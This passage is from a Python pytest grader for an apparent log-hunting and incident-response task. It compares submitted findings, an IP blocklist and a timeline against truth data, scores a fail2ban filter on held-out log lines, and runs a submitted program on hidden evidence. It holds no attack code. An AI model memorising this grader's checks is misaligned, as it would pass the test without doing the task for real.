                items = [(x.strip(), v6) for x in m.group(2).split(",") if x.strip()]
            for a, v6 in items:
                try:
                    ok = ipaddress.ip_address(a).version == (6 if v6 else 4)
                except ValueError:
                    ok = False
                (got if ok else bad).append(a)
    return got, bad


def problems(out, truth, fmt):
    """What is wrong in the outputs under `out` against `truth` (an empty list: all right)."""
    p = os.path.join(out, "findings.json")
    if not os.path.isfile(p):
        return ["findings.json is missing"]
    try:
        with open(p) as f:
            got = json.load(f)
    except (ValueError, UnicodeDecodeError) as e:
        return [f"findings.json does not parse: {e}"]
    if not isinstance(got, dict):
        return ["findings.json is not an object"]
    msgs = []
    for key, want in sorted(truth["findings"].items()):
        have = got.get(key)
        if not isinstance(have, list) or not all(isinstance(x, dict) for x in have):
            msgs.append(f"findings.json: {key} is not a list of objects")
            continue
        fields = sorted(want[0])
        norm = [{k: x.get(k) for k in fields} for x in have]
        if norm != want:
            miss = [w for w in want if w not in norm][:3]
            extra = [x for x in norm if x not in want][:3]
            msgs.append(f"findings.json: {key} differs (missing {miss}, unexpected {extra}"
                        + (", or out of order)" if not miss and not extra else ")"))
    if "blocklist" in truth:
        p = os.path.join(out, BLOCKFILE)
        if not os.path.isfile(p):
            msgs.append(f"{BLOCKFILE} is missing")
        else:
            have, bad = _blocklist(p, fmt)
            if bad:
                msgs.append(f"{BLOCKFILE}: lines or addresses not in the stated format: {bad[:3]}")
            if sorted(set(have)) != sorted(truth["blocklist"]) or len(have) != len(set(have)):
                msgs.append(f"{BLOCKFILE}: missing {sorted(set(truth['blocklist']) - set(have))[:4]}, "
                            f"unexpected {sorted(set(have) - set(truth['blocklist']))[:4]}, repeated: {len(have) != len(set(have))}")
    if "timeline" in truth:
        p = os.path.join(out, "timeline.csv")
        if not os.path.isfile(p):
            msgs.append("timeline.csv is missing")
        else:
            with open(p, newline="") as f:
                rows = [r for r in csv.reader(f) if r]
            want = [["time", "source", "ip", "user", "event"]] + [list(r) for r in truth["timeline"]]
            if rows != want:
                n = next((i for i, (a, b) in enumerate(zip(rows, want)) if a != b), min(len(rows), len(want)))
                msgs.append(f"timeline.csv: {len(rows) - 1} rows for {len(want) - 1}; first difference at row {n}: "
                            f"{rows[n] if n < len(rows) else None} for {want[n] if n < len(want) else None}")
    return msgs


HOSTRX = r"(?P<host>[0-9A-Fa-f.:]*[0-9A-Fa-f])"


def filter_problems(path, cases):
    """How a fail2ban filter judges held-out lines: a failregex matches (<HOST>: the address), no ignoreregex does."""
    if not os.path.isfile(path):
        return [f"{path} is missing"]
    cp = configparser.ConfigParser(interpolation=None, strict=False)
    try:
        cp.read(path)
        fail = cp.get("Definition", "failregex")
        ign = cp.get("Definition", "ignoreregex", fallback="")
    except (configparser.Error, UnicodeDecodeError) as e:
        return [f"{path}: not a filter with [Definition] failregex ({e})"]
    def compiled(text):
        out = []
        for l in text.splitlines():
            l = l.strip()
            if l:
                out.append(re.compile(l.replace("<HOST>", HOSTRX, 1).replace("<HOST>", "(?:[0-9A-Fa-f.:]+)")))
        return out
    try:
        fails, ignores = compiled(fail), compiled(ign)
    except re.error as e:
        return [f"{path}: a regex does not compile: {e}"]
    bad = []
    for line, want in cases:
        got = None
        if not any(i.search(line) for i in ignores):
            for f in fails:
                m = f.search(line)
                if m:
                    try:
                        a = ipaddress.ip_address(m.group("host"))
                        got = str(getattr(a, "ipv4_mapped", None) or a)
                    except (ValueError, IndexError):
                        got = "(no address)"
                    break
        if got != want:
            bad.append((line[:160], got, want))
    if bad:
        return [f"{path}: {len(bad)} of {len(cases)} held-out lines judged wrong (line, flagged, expected): {bad[:3]}"]
    return []


def test_findings_on_this_host():
    msgs = problems("/srv/ir/out", {"findings": VISIBLE["findings"]}, FMT)
    assert not msgs, "\n".join(msgs)


@pytest.mark.parametrize("case", range(len(HIDDEN)), ids=[h["host"] for h in HIDDEN])
def test_filter_on_held_out_lines(case):
    msgs = filter_problems(FILTER, HIDDEN[case]["truth"]["filter"])
    assert not msgs, "\n".join(msgs)


@pytest.mark.parametrize("case", range(len(HIDDEN)), ids=[h["host"] for h in HIDDEN])
def test_hunt_on_held_out_evidence(case):
    h = HIDDEN[case]
    src = tempfile.mkdtemp()
    ev = os.path.join(src, h["host"])
    os.makedirs(ev)
    for name, data in h["files"].items():
        with open(os.path.join(ev, name), "wb") as f:
            f.write(gzip.decompress(base64.b64decode(data)))
    assert os.path.isfile(PROG), f"{PROG} is missing"
    ev = tg_guard.give(ev)
    prog = tg_guard.give(PROG)
    os.chmod(prog, 0o755)
    out = os.path.join(tg_guard.scratch("out"), "result")
    p = tg_guard.run([prog, ev, out], timeout=120)
    assert p.returncode == 0, f"{PROG} failed on held-out evidence: {p.stderr[-800:]}"
    msgs = problems(out, h["truth"], FMT)
    assert not msgs, f"held-out host {h['host']}: " + "\n".join(msgs)
